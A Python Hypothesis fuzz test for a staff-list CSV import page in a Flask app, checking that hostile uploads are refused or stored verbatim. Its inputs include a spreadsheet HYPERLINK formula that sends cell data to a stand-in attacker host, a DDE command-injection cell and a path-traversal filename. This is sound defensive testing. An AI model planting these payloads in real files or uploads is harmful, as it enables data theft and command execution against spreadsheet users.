"""Hostile staff lists on the import page: none fails, a refused one imports nothing and
says why, an accepted one stores every cell as written.

Hypothesis writes lists with headings missing, misspelt or twice, cells with quotes, line
breaks, delimiters and formulas (`=HYPERLINK(...)`), in odd encodings, with or without
Excel's byte order mark, and sometimes sends random bytes, a workbook or a huge file.

The page refuses what the whole file shows at once (400); a list it takes becomes a job,
run here as its process would run it, which saves the list or refuses its rows.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from feedback360.accounts.csv_reading import MAX_BYTES
from feedback360.accounts.models import REFUSED, ImportJob, Person
from feedback360.accounts.services import person_by_email
from feedback360.extensions import db
from tests.conftest import csrf_token, page_text
from tests.databases import Snapshot, save_database
from tests.fuzz_helpers import (
    Tally,
    database_rows,
    judge,
    odd_text,
    rows_as_saved,
    send,
)
from tests.test_people_import import job_of, run_job

IMPORT_PAGE = "/admin/people/import"
EXAMPLES = 150
KNOWN = ["ada@example.org", "mo@example.org", "cora@example.org", "gone@example.org"]
REFUSALS = ("Nothing was imported", "Choose a CSV file", "Please try again", "Request Entity")

# ---------------------------------------------------------------- writing staff lists

HEADINGS = {
    "name": ["name", "Name", "Full name", "NAME "],
    "email": ["email", "Email address", "E-mail"],
    "staff_type": ["staff type", "Staff_Type", "staff-type"],
    "business_unit": ["business unit", "Business Unit:"],
    "line_manager": ["line manager's email", "Line manager’s email", "manager email", "manager"],
    "roles": ["roles", "Role", "rôles"],
    "coach": ["coach's email", "Coach"],
    "leaver": ["leaver", "Leaver:"],
}
REQUIRED = ["name", "email", "staff_type", "business_unit", "line_manager", "roles"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
]
EMAILS = [*KNOWN, *(f"p{n}@example.org" for n in range(6)), "P1@Example.ORG ", "not-an-email", ""]
CELLS = {
    "name": ["Alex Morgan", "Zoë O’Brien", 'Sam "Sammy" Lee', "Line\nbreak", "a,b;c\td", ""],
    "email": EMAILS,
    "staff_type": ["Police officer", "Police staff", "", "x" * 101],
    "business_unit": ["Westminster", "Camden", "", "y" * 201],
    "line_manager": EMAILS,
    "roles": ["", "coach", "admin", "coach;admin", "Administrator", "staff", "boss", "coach/admin"],
    "coach": ["", "cora@example.org", "p2@example.org", "mo@example.org", "nobody@example.org"],
    "leaver": ["", "yes", "no", "Y", "maybe"],
}


@dataclass(frozen=True)
class Upload:
    content: bytes
    filename: str | None  # None: no file part at all
    full_list: bool
    # The rows as written, when the file is a clean UTF-8 list: an accepted import must
    # have stored each name exactly so.
    rows: tuple[dict[str, str], ...] | None = None


# Cells a real list holds, awkward ones included: a file of these alone is accepted.
CLEAN = {
    "name": ["Alex Morgan", "Zoë O’Brien", 'Sam "Sammy" Lee', "Line\nbreak", "a,b;c\td", *FORMULAS],
    "staff_type": ["Police officer", "Police staff", "=1+1"],
    "business_unit": ["Westminster", "Camden", FORMULAS[0], "Unit; with, delimiters"],
    "line_manager": ["", "mo@example.org", "cora@example.org"],
    "roles": ["", "coach", "Administrator;coach", "staff"],
    "coach": ["", "cora@example.org"],
    "leaver": ["", "no", "yes"],
}


def cells(column: str, row: int, hostile: bool) -> st.SearchStrategy[str]:
    if not hostile:
        if column == "email":
            return st.just(f"p{row}@example.org")
        return st.sampled_from(CLEAN[column])
    return st.one_of(
        st.sampled_from(CELLS[column]),
        st.sampled_from(FORMULAS),
        odd_text,
        st.text(max_size=20),
    )


def heading(draw: st.DrawFn, column: str) -> str:
    """Mostly the heading the page shows; sometimes another way of writing it, or a wrong one."""
    return (
        draw(st.sampled_from(HEADINGS[column]))
        if draw(st.integers(0, 3)) == 0
        else (HEADINGS[column][0])
    )


@st.composite
def staff_lists(draw: st.DrawFn) -> tuple[list[str], list[list[str]], list[dict[str, str]]]:
    """Headings and rows: usually the columns the page asks for, sometimes not.

    Each row comes with the record it was written from, or an empty one where the file
    does not say what the record says (a short row, Ada's own line).
    """
    columns = REQUIRED + [c for c in ("coach", "leaver") if draw(st.booleans())]
    if draw(st.integers(0, 5)) == 0:
        columns.remove(draw(st.sampled_from(REQUIRED)))
    if draw(st.integers(0, 7)) == 0:
        columns.append(draw(st.sampled_from(columns)))  # a heading twice
    layout: list[str | None] = list(draw(st.permutations(columns)))
    if draw(st.integers(0, 4)) == 0:
        layout.insert(draw(st.integers(0, len(layout))), None)  # a column of no use
    blank_heading = draw(st.booleans())
    headings = [heading(draw, c) if c else ("" if blank_heading else "Payroll") for c in layout]
    rows, records = [], []
    hostility = draw(st.sampled_from([0, 0, 0, 1, 3]))  # of four rows, how many are hostile
    for number in range(draw(st.integers(min_value=0, max_value=8))):
        hostile = draw(st.integers(0, 3)) < hostility
        record = {column: draw(cells(column, number, hostile)) for column in columns}
        row = [record[c] if c else "12345" for c in layout]
        if draw(st.integers(0, 9)) == 0:
            row, record = row[: draw(st.integers(0, len(row)))], {}  # a short row
        rows.append(row)
        records.append(record)
    if draw(st.integers(0, 9)) == 0:
        # Ada, the administrator importing, keeps her own role: full lists may then pass.
        rows.append(["Ada Admin", "ada@example.org", "Police staff", "HQ", "", "admin"])
        records.append({})
    return headings, rows, records


def written(headings: list[str], rows: list[list[str]], delimiter: str, ending: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=ending).writerows([headings, *rows])
    return out.getvalue()


@st.composite
def uploads(draw: st.DrawFn) -> Upload:
    filename = draw(
        st.sampled_from(
            ["staff.csv"] * 14
            + ["STAFF.CSV", "staff.txt", "staff.xlsx", "", "staff", "../../etc/passwd.csv"]
            + ["naïve list.csv", "staff.csv.exe", None]
        )
    )
    full_list = draw(st.integers(0, 7)) == 0
    kind = draw(st.integers(0, 23))
    if kind == 0:
        return Upload(draw(st.binary(max_size=3000)), filename, full_list)
    if kind == 1:
        start = draw(st.sampled_from([b"PK\x03\x04", b"\xd0\xcf\x11\xe0", b"\xff\xfe", b""]))
        return Upload(start + draw(st.binary(max_size=200)), filename, full_list)
    headings, rows, records = draw(staff_lists())
    text = written(
        headings,
        rows,
        draw(st.sampled_from([",", ",", ";", "\t"])),
        draw(st.sampled_from(["\r\n", "\n", "\r"])),
    )
    encoding = draw(st.sampled_from(["utf-8"] * 6 + ["utf-8-sig"] * 3 + ["utf-16", "cp1252"]))
    content = text.encode(encoding, errors="replace")
    if kind == 2:
        content *= draw(st.integers(min_value=50, max_value=400))  # long: the rows repeat
    if kind == 3:
        content += b"\n" * (MAX_BYTES + 1 - len(content))  # one byte over the limit
    if kind == 4 and content:
        at = draw(st.integers(0, len(content) - 1))
        content = (
            content[:at] + draw(st.sampled_from([b'"', b"\x00", b"\xff", b"\r"])) + content[at:]
        )
    clean = kind >= 5 and encoding.startswith("utf-8") and all(records)
    return Upload(content, filename, full_list, tuple(records) if clean else None)


_CLEAN_RECORD = {
    "name": 'Sam "Sammy" Lee',
    "email": "p1@example.org",
    "staff_type": "Police staff",
    "business_unit": FORMULAS[0],
    "line_manager": "mo@example.org",
    "roles": "coach",
}
A_CLEAN_LIST = Upload(
    written(
        [HEADINGS[column][0] for column in _CLEAN_RECORD],
        [list(_CLEAN_RECORD.values())],
        ",",
        "\r\n",
    ).encode(),
    "staff.csv",
    full_list=False,
    rows=(_CLEAN_RECORD,),
)


def body_of(upload: Upload, token: str) -> tuple[bytes, dict[str, str]]:
    fields: dict[str, object] = {"csrf_token": token}
    if upload.filename is not None:
        fields["file"] = FileStorage(io.BytesIO(upload.content), upload.filename)
    if upload.full_list:
        fields["full_list"] = "y"
    # Encoded here: the test client would spool a large body to a file it never closes.
    boundary, body = encode_multipart(fields)
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


# ---------------------------------------------------------------- the people already there


@dataclass
class Office:
    """An app with Ada (administrator), Mo (a manager), Cora (a coach) and Gil, who left."""

    app: Flask
    pristine: Snapshot  # what restore_database puts back
    cookie: str
    token: str
    rows: dict[str, list[tuple[object, ...]]] = field(repr=False)  # Hypothesis prints it

    def browser(self) -> FlaskClient:
        client = self.app.test_client()
        client.set_cookie("session", self.cookie)
        return client


@pytest.fixture
def office(app: Flask, admin: FlaskClient, make_person, tmp_path: Path) -> Office:  # type: ignore[no-untyped-def]
    make_person("Mo Manager", "mo@example.org")
    cora = make_person("Cora Coach", "cora@example.org", is_coach=True)
    gone = make_person("Gil Gone", "gone@example.org")
    gone.coach = cora
    gone.deactivate()
    db.session.commit()
    app.config["PEOPLE_IMPORT_WORKER"] = "none"  # each job is run by the test (run_job)
    token = csrf_token(admin.get(IMPORT_PAGE).text)
    cookie = admin.get_cookie("session")
    assert cookie is not None
    pristine = save_database(app, tmp_path / "pristine.sqlite")
    return Office(app, pristine, cookie.value, token, database_rows())


def test_no_staff_list_fails_and_a_refused_one_changes_nothing(
    office: Office, capsys: pytest.CaptureFixture[str]
) -> None:
    tally = Tally()

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(upload=uploads())
    @example(upload=A_CLEAN_LIST)  # at least one list every run that must be taken
    def post(upload: Upload) -> None:
        rows_as_saved(office.app, office.pristine, office.rows)
        client = office.browser()
        body, headers = body_of(upload, office.token)
        response = send(client, IMPORT_PAGE, body, headers)
        job_id = job_of(response)
        if job_id is not None:
            run_job(office.app, job_id)  # an error here would have failed the job's process
        judge(response, client, office.rows, f"import of {upload.filename!r}", tally)
        if response.status_code >= 400:
            assert any(phrase in page_text(response.text) for phrase in REFUSALS)
        elif job_id is not None and db.session.get_one(ImportJob, job_id).state == REFUSED:
            assert "Nothing was imported" in page_text(client.get(response.location).text)
            assert database_rows()["person"] == office.rows["person"]
        elif upload.rows is not None:
            for record in upload.rows:
                assert_stored_as_written(record)

    post()
    with capsys.disabled():
        print(f"\nfuzz import: {tally.accepted} accepted, {tally.refused} refused {tally.statuses}")
    assert tally.accepted > 0, "no list was accepted: the strategy is too hostile to test much"
    assert tally.refused > 0


def assert_stored_as_written(record: dict[str, str]) -> None:
    """Quotes, line breaks, delimiters and formulas reach the database as typed."""
    db.session.expire_all()
    person = person_by_email(record["email"])
    if record.get("leaver", "").lower() in ("yes", "y"):
        assert person is None or not person.active
        return
    assert isinstance(person, Person)
    assert person.name == re.sub(r"\s+", " ", record["name"].strip())
    assert person.business_unit == re.sub(r"\s+", " ", record["business_unit"].strip())
